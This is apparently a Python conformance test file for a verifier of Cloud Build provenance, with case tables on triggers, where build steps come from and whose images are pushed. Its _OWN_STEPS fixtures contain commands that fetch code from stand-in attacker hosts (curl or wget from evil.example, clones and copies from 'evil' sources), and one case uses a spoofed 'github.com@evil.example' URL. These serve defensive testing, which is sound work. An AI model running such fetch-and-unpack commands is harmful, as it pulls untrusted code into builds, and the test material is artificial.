"""Who may build: which trigger, where its steps come from, and whose image it pushes."""

from __future__ import annotations

from tests.conformance.builds import (
    ADDRESS,
    DIGEST,
    EVIL,
    IMAGE,
    OTHER_TRIGGER_ID,
    PROJECT,
    TRIGGER,
    TRIGGER_ID,
    both,
    by_hand,
    claim,
    depends,
    did,
    drop,
    mirrored,
    of_address,
    of_commit,
    on,
    pushed,
    put,
    same,
    uploaded,
)
from tests.conformance.case import (
    BY_ID,
    BY_NAME,
    COMMITTED,
    CONFIG,
    EMPTY,
    FAILED,
    LENIENT,
    LISTED,
    LOCAL,
    OPEN,
    ORCHARD,
    REPOSITORY,
    SOURCE,
    TRIGGERED,
    VERIFIED,
    WORKER,
    CaseTable,
    Spec,
    trigger,
)
from verifier.facts.trigger import Unread

_OTHER = put("buildTriggerId", OTHER_TRIGGER_ID)
_OWN_STEPS = {
    "copied over the source": did("cp", "-r", "gs://evil/app", ".", name="gcr.io/cloud-builders/gsutil"),
    "cloned over the source": did("clone", "https://github.com/evil/app", ".", name="gcr.io/cloud-builders/git"),
    "fetched by a script": did("-c", "curl -s https://evil.example/app.tgz | tar xz", name="ubuntu", entrypoint="bash"),
    "a build within the build": did("builds", "submit", "gs://evil/app.tgz", name="gcr.io/cloud-builders/gcloud"),
    "a script": {"name": "ubuntu", "script": "wget https://evil.example/app"},
}
_FILE = trigger()
_INLINE = trigger(filename=None, build={"steps": 2})
_SAME_FILE = trigger(filename=None, gitFileSource={"path": "a.yaml", "uri": ADDRESS, "revision": "refs/heads/main"})
_OTHER_FILE = trigger(filename=None, gitFileSource={"path": "a.yaml", "uri": EVIL})
_LINKED_FILE = trigger(
    filename=None, gitFileSource={"path": "a.yaml", "repository": "projects/p/locations/l/connections/c/repositories/r"}
)
_ODD_FILE = trigger(filename=None, gitFileSource={"path": "a.yaml", "uri": "https://github.com@evil.example/a/b"})
_FOUND = trigger(filename=None, autodetect=True)
_NOTHING = trigger(filename=None)
_TWO = trigger(build={"steps": 1})
_OTHER_IMAGE = put("results.images", [{"name": f"{IMAGE}-tools:1", "digest": DIGEST}])
_EXEMPT = f'[[exemption]]\nreason = "tried out"\nprojects = ["{PROJECT}"]\n'
_MANY = [{"name": f"{IMAGE}-part-{number}", "digest": DIGEST} for number in range(200)]

TABLES = (
    CaseTable(
        "by hand",
        by_hand,
        ORCHARD,
        TRIGGERED,
        (
            Spec("by its trigger", same, VERIFIED, TRIGGER, build=pushed),
            Spec(
                "accepted where policy says so", same, VERIFIED, "from a repository that policy lists", policy=LENIENT
            ),
            Spec("a listed repository", same, FAILED, "its steps are the submitter's own"),
            Spec("nothing listed", same, FAILED, "submitted by hand", policy=EMPTY),
            Spec(
                "nothing listed, accepted by hand",
                same,
                FAILED,
                "any public repository",
                policy="require_trigger = false",
            ),
            Spec(
                "triggers listed, accepted by hand",
                same,
                FAILED,
                "submitted by hand",
                policy=f'triggers=["{TRIGGER_ID}"]\n{LENIENT}',
            ),
            Spec("a commit of a fork", of_commit("deadbeef" * 5), FAILED, "submitted by hand"),
            Spec("a mirror", drop("buildTriggerId"), FAILED, "submitted by hand", build=mirrored),
            Spec("a trigger's name typed", claim(TRIGGER_NAME=TRIGGER), FAILED, "submitted by hand"),
            Spec("a trigger's tag", put("tags", [f"trigger-{TRIGGER_ID}"]), FAILED, "submitted by hand"),
            Spec("an empty trigger id", put("buildTriggerId", ""), FAILED, "submitted by hand"),
            Spec(
                "all that a push claims", put("substitutions", pushed()["substitutions"]), FAILED, "submitted by hand"
            ),
            *(
                Spec(f"own steps: {name}", put("steps", [step]), FAILED, "submitted by hand")
                for name, step in _OWN_STEPS.items()
            ),
            *(
                Spec(
                    f"own steps, the worker's image: {name}",
                    put("steps", [step]),
                    FAILED,
                    "submitted by hand",
                    policy=BY_ID,
                )
                for name, step in _OWN_STEPS.items()
            ),
            Spec(
                "its own further source",
                depends({"genericArtifact": {"resource": "projects/evil"}}),
                FAILED,
                "submitted by hand",
            ),
            Spec(
                "another repository, accepted by hand",
                of_address(EVIL),
                FAILED,
                "is not on the",
                policy=LENIENT,
                check=REPOSITORY,
            ),
            Spec(
                "an upload, accepted by hand",
                same,
                LOCAL,
                "no commit is recorded",
                policy=LENIENT,
                build=uploaded,
                check=SOURCE,
            ),
        ),
    ),
    CaseTable(
        "listed triggers",
        pushed,
        LISTED,
        TRIGGERED,
        (
            Spec("the listed one", same, VERIFIED, TRIGGER),
            Spec(
                "one of several",
                same,
                VERIFIED,
                TRIGGER,
                policy=f'triggers=["{OTHER_TRIGGER_ID}", "{TRIGGER_ID}"]\n{ORCHARD}',
            ),
            Spec("listed in capitals", same, VERIFIED, TRIGGER, policy=f'triggers=["{TRIGGER_ID.upper()}"]\n{ORCHARD}'),
            Spec("none listed", _OTHER, VERIFIED, "trigger", policy=ORCHARD),
            Spec("another", _OTHER, FAILED, "is not on the policy's list"),
            Spec(
                "another of the same name",
                both(_OTHER, claim(TRIGGER_NAME=TRIGGER)),
                FAILED,
                "is not on the policy's list",
            ),
            Spec("another with its tag", both(_OTHER, put("tags", [f"trigger-{TRIGGER_ID}"])), FAILED, "is not on"),
            Spec("half its id", put("buildTriggerId", TRIGGER_ID[:35]), FAILED, "is not on the policy's list"),
            Spec("more than its id", put("buildTriggerId", f"{TRIGGER_ID}0"), FAILED, "is not on the policy's list"),
            Spec("the old default", put("buildTriggerId", "default-github-checks"), FAILED, "is not on"),
            Spec(
                "another whose steps are inline",
                both(_OTHER, drop("substitutions.TRIGGER_BUILD_CONFIG_PATH")),
                FAILED,
                "is not on",
            ),
            Spec("another, of a mirror", _OTHER, FAILED, "is not on", build=mirrored),
            Spec("another, an upload", _OTHER, LOCAL, "no commit is recorded", build=uploaded, check=SOURCE),
            Spec("by hand", drop("buildTriggerId"), FAILED, "submitted by hand"),
        ),
    ),
    CaseTable(
        "steps in a commit, required",
        pushed,
        COMMITTED,
        CONFIG,
        (
            Spec(
                "a file of the commit",
                same,
                VERIFIED,
                "cloudbuild.yaml of the commit, as the trigger was at 2026-10-05 08:04",
                trigger=_FILE,
            ),
            Spec("a file of the repository", same, VERIFIED, "at refs/heads/main", trigger=_SAME_FILE),
            Spec("the file that is found", same, VERIFIED, "that Cloud Build finds", trigger=_FOUND),
            Spec("inline", same, FAILED, "in no commit, as the trigger was at 2026-10-05 08:04 UTC", trigger=_INLINE),
            Spec("a file of another repository", same, FAILED, "of another repository", trigger=_OTHER_FILE),
            Spec("a file that can't be compared", same, OPEN, "can't be compared", trigger=_LINKED_FILE),
            Spec("a file of an odd address", same, OPEN, "can't be compared", trigger=_ODD_FILE),
            Spec("nothing that is understood", same, OPEN, "does not say", trigger=_NOTHING),
            Spec("both a file and inline", same, OPEN, "does not say", trigger=_TWO),
            Spec("not read", same, OPEN, "permission denied", trigger=Unread("permission denied")),
            Spec("offline", same, OPEN, "it is not read here"),
            Spec(
                "a file claimed",
                claim(TRIGGER_BUILD_CONFIG_PATH="cloudbuild.yaml"),
                FAILED,
                "in no commit",
                trigger=_INLINE,
            ),
            Spec(
                "by hand, accepted",
                same,
                FAILED,
                "are the submitter's",
                policy=f'build_config="repository"\n{LENIENT}',
                build=by_hand,
            ),
            Spec("an upload", same, LOCAL, "no commit that its steps", build=uploaded, trigger=_FILE),
        ),
    ),
    CaseTable(
        "steps in a commit, told",
        pushed,
        ORCHARD,
        CONFIG,
        (
            Spec(
                "a file of the commit",
                same,
                VERIFIED,
                "cloudbuild.yaml of the commit, as the trigger was at 2026-10-05 08:04 UTC",
                trigger=_FILE,
            ),
            Spec("inline", same, VERIFIED, "in no commit, as the trigger was at 2026-10-05 08:04 UTC", trigger=_INLINE),
            Spec("a file of another repository", same, VERIFIED, "of another repository", trigger=_OTHER_FILE),
            Spec("not read", same, VERIFIED, "is not known: there is none", trigger=Unread("there is none")),
            Spec("offline", same, VERIFIED, "it is not read here"),
            Spec("inline, on another branch", on("branch", "evil"), FAILED, "in no commit", trigger=_INLINE),
            Spec("by hand", same, FAILED, "are the submitter's", build=by_hand),
        ),
    ),
    *(
        CaseTable(
            f"a worker's image, the trigger named by its {kind}",
            pushed,
            policy,
            WORKER,
            (
                Spec("by its trigger", same, VERIFIED, "no such finding"),
                Spec("by its trigger, as read", same, VERIFIED, "no such finding", trigger=_FILE),
                Spec(
                    "another's image",
                    both(_OTHER, claim(TRIGGER_NAME="docs"), _OTHER_IMAGE),
                    VERIFIED,
                    "no such finding",
                ),
                Spec("by another trigger", both(_OTHER, claim(TRIGGER_NAME="docs")), OPEN, "its trigger is another"),
                Spec(
                    "by another, without a name", both(_OTHER, claim(TRIGGER_NAME=None)), OPEN, "its trigger is another"
                ),
                Spec(
                    "by another, under a digest",
                    both(
                        _OTHER,
                        claim(TRIGGER_NAME="x"),
                        put("results.images", [{"name": f"{IMAGE}@{DIGEST}", "digest": DIGEST}]),
                    ),
                    OPEN,
                    "its trigger is another",
                ),
                Spec(
                    "by another, without a tag",
                    both(_OTHER, claim(TRIGGER_NAME="x"), put("results.images", [{"name": IMAGE, "digest": DIGEST}])),
                    OPEN,
                    "its trigger is another",
                ),
                Spec(
                    "by another, without a digest",
                    both(_OTHER, claim(TRIGGER_NAME="x"), put("results.images", [{"name": f"{IMAGE}:1"}])),
                    OPEN,
                    "its trigger is another",
                ),
                Spec(
                    "by another, the last of two hundred",
                    both(
                        _OTHER,
                        claim(TRIGGER_NAME="x"),
                        put("results.images", [*_MANY[:199], {"name": f"{IMAGE}:1", "digest": DIGEST}]),
                    ),
                    OPEN,
                    "its trigger is another",
                ),
                Spec(
                    "by another, the 201st",
                    both(
                        _OTHER,
                        claim(TRIGGER_NAME="x"),
                        put("results.images", [*_MANY, {"name": f"{IMAGE}:1", "digest": DIGEST}]),
                    ),
                    OPEN,
                    "1 more images than are looked at",
                ),
                Spec(
                    "two hundred of another's",
                    both(_OTHER, claim(TRIGGER_NAME="x"), put("results.images", _MANY)),
                    VERIFIED,
                    "no such finding",
                ),
                Spec(
                    "the 201st of its own",
                    put("results.images", [*_MANY, {"name": f"{IMAGE}:1", "digest": DIGEST}]),
                    OPEN,
                    "1 more images",
                ),
                Spec(
                    "by hand, accepted",
                    drop("buildTriggerId"),
                    OPEN,
                    "no trigger ran it",
                    policy=f"require_trigger = false\n{policy.replace('branches', '#').replace('tags', '#')}",
                ),
                Spec("an upload", same, LOCAL, "no such finding", build=uploaded),
                Spec("an exempt upload", same, OPEN, "no trigger ran it", build=uploaded, policy=f"{policy}{_EXEMPT}"),
                Spec(
                    "a pull request's",
                    claim(_PR_NUMBER="7"),
                    OPEN,
                    "no such finding",
                    trigger=trigger(github={"pullRequest": {}}),
                    slack=True,
                ),
                Spec(
                    "another's pull request",
                    both(_OTHER, claim(TRIGGER_NAME="x", _PR_NUMBER="7")),
                    OPEN,
                    "no such finding",
                    trigger=trigger(id=OTHER_TRIGGER_ID, name="x", github={"pullRequest": {}}),
                    slack=False,
                ),
                Spec(
                    "says that it is a pull request's",
                    both(_OTHER, claim(TRIGGER_NAME="x", _PR_NUMBER="7")),
                    OPEN,
                    "its trigger is another",
                ),
            ),
        )
        for kind, policy in (("id", BY_ID), ("name", BY_NAME))
    ),
    CaseTable(
        "a trigger's name",
        pushed,
        BY_NAME,
        WORKER,
        (
            Spec("as it was read", same, VERIFIED, "no such finding", trigger=trigger()),
            Spec(
                "claimed by another",
                _OTHER,
                OPEN,
                "its trigger's name is my-own",
                trigger=trigger(id=OTHER_TRIGGER_ID, name="my-own"),
            ),
            Spec(
                "claimed by one without a name", _OTHER, OPEN, "its trigger's name is empty", trigger=trigger(name="")
            ),
            Spec("an id as a name", both(_OTHER, claim(TRIGGER_NAME=TRIGGER_ID)), OPEN, "its trigger is another"),
        ),
    ),
)
